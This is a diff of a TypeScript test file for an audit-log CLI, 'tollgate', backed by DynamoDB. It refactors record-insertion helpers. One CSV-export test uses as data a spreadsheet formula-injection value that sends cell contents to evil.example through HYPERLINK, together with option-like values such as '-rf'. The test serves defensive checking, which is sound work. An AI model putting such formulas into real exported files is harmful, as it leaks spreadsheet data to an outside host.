@@ -4,14 +4,14 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { DeleteCommand, GetCommand, PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { auditPk, auditSk } from '../adapters/dynamodb/audit-items.js';
+import { auditPk, auditRecordItem, auditSk } from '../adapters/dynamodb/audit-items.js';
 import { startLocalDynamo } from '../adapters/dynamodb/local.js';
 import { DynamoStore } from '../adapters/dynamodb/store.js';
 import { csvField, csvLine, parseTime, printable } from '../cli/audit-format.js';
 import { TABLE_NAME } from '../cli/local-store.js';
 import { archiveObjects } from '../functions/archive/layout.js';
 import { chainRecord } from '../shared/audit/chain.js';
-import type { AuditRecord } from '../shared/audit/record.js';
+import type { AuditEntry, AuditRecord } from '../shared/audit/record.js';
 import { ROOT } from './helpers.js';
 
 /*
@@ -99,6 +99,27 @@ async function onStore<T>(
   } finally {
     await db.close();
   }
+}
+
+/**
+ * A copy of the demo store with one more record on orders-worker's chain (appended and indexed as the gate
+ * does), made by `change` from the chain's first record, a decision.
+ */
+async function copyWithRecord(change: (decision: AuditRecord) => AuditEntry): Promise<string> {
+  const store = copyOfStore();
+  await onStore(store, async (db) => {
+    const writer = new DynamoStore(db.client, TABLE_NAME);
+    const head = await writer.auditHead('orders-worker');
+    const decision = (
+      await db.client.send(
+        new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(1) } }),
+      )
+    ).Item?.record as AuditRecord;
+    const record = chainRecord(change(decision), 'orders-worker', head);
+    await writer.appendAudit(record);
+    await writer.indexAudit(record);
+  });
+  return store;
 }
 
 const PAYMENTS_DIGEST = 'sha256:3f9a1c0d8e2b47a6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2';
@@ -218,28 +239,12 @@ describe('tollgate audit list: filters on the demo records', () => {
   });
 
   it('--vulnerability ghsa-…: read as GitHub writes it (GHSA- and the rest lower case); other ids as given', async () => {
-    const store = copyOfStore();
     const ghsa = 'GHSA-9wx4-h78v-vm56';
-    await onStore(store, async (db) => {
-      const writer = new DynamoStore(db.client, TABLE_NAME);
-      const head = await writer.auditHead('orders-worker');
-      const decision = (
-        await db.client.send(
-          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(1) } }),
-        )
-      ).Item?.record as AuditRecord;
-      const record = chainRecord(
-        {
-          ...decision,
-          time: '2026-11-25T09:30:00.000Z',
-          vulnerabilities: [ghsa, 'ALAS2-2024-2573'],
-        },
-        'orders-worker',
-        head,
-      );
-      await writer.appendAudit(record);
-      await writer.indexAudit(record);
-    });
+    const store = await copyWithRecord((decision) => ({
+      ...decision,
+      time: '2026-11-25T09:30:00.000Z',
+      vulnerabilities: [ghsa, 'ALAS2-2024-2573'],
+    }));
     for (const typed of [ghsa, 'ghsa-9wx4-h78v-vm56', 'GHSA-9WX4-H78V-VM56']) {
       expect(ids(['--vulnerability', typed], store), typed).toEqual(['orders-worker#5']);
     }
@@ -395,31 +400,16 @@ describe('tollgate audit list --format csv', () => {
   });
 
   it("a reviewer's summary with quotes, commas and line breaks, and formula-looking values, read back intact", async () => {
-    const store = copyOfStore();
     const summary = '=HYPERLINK("https://evil.example/?"&A1, "ok")\nsecond line, with "quotes"';
-    await onStore(store, async (db) => {
-      const writer = new DynamoStore(db.client, TABLE_NAME);
-      const head = await writer.auditHead('orders-worker');
-      const decision = (
-        await db.client.send(
-          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(1) } }),
-        )
-      ).Item?.record as AuditRecord;
-      const record = chainRecord(
-        {
-          ...decision,
-          type: 'resolution',
-          time: '2026-11-25T09:30:00.000Z',
-          actor: '@bob',
-          image: { repository: '-rf', digest: decision.image?.digest ?? null, tags: ['+1', 'x'] },
-          summary,
-          resolution: { state: 'FAILED', reviewer: '+bob', byTollgate: false, status: 'Rejected', summary },
-        },
-        'orders-worker',
-        head,
-      );
-      await writer.appendAudit(record);
-    });
+    const store = await copyWithRecord((decision) => ({
+      ...decision,
+      type: 'resolution',
+      time: '2026-11-25T09:30:00.000Z',
+      actor: '@bob',
+      image: { repository: '-rf', digest: decision.image?.digest ?? null, tags: ['+1', 'x'] },
+      summary,
+      resolution: { state: 'FAILED', reviewer: '+bob', byTollgate: false, status: 'Rejected', summary },
+    }));
     const r = audit(
       ['list', '--format', 'csv', '--pipeline', 'orders-worker', '--since', '2026-11-25T09:30:00Z'],
       store,
@@ -793,7 +783,8 @@ describe('tollgate audit verify --archive', () => {
             : content;
         const record: AuditRecord =
           seq === 1 ? (item.record as AuditRecord) : chainRecord(changed, pipeline, previous);
-        await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: { ...item, record } }));
+        // Its index keys written as Tollgate would (an outcome key left REJECT is what verify checks too).
+        await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: auditRecordItem(record) }));
         previous = record;
       }
       await db.client.send(
@@ -806,7 +797,7 @@ describe('tollgate audit verify --archive', () => {
         }),
       );
     });
-    // The table's own verification cannot tell: every hash and link holds, and the head names the last.
+    // The table's own verification cannot tell: every hash, link and index key holds, the head names the last.
     expect(audit(['verify'], store).status).toBe(0);
     const r = audit(['verify', '--archive', archive], store);
     expect(r.status).toBe(2);
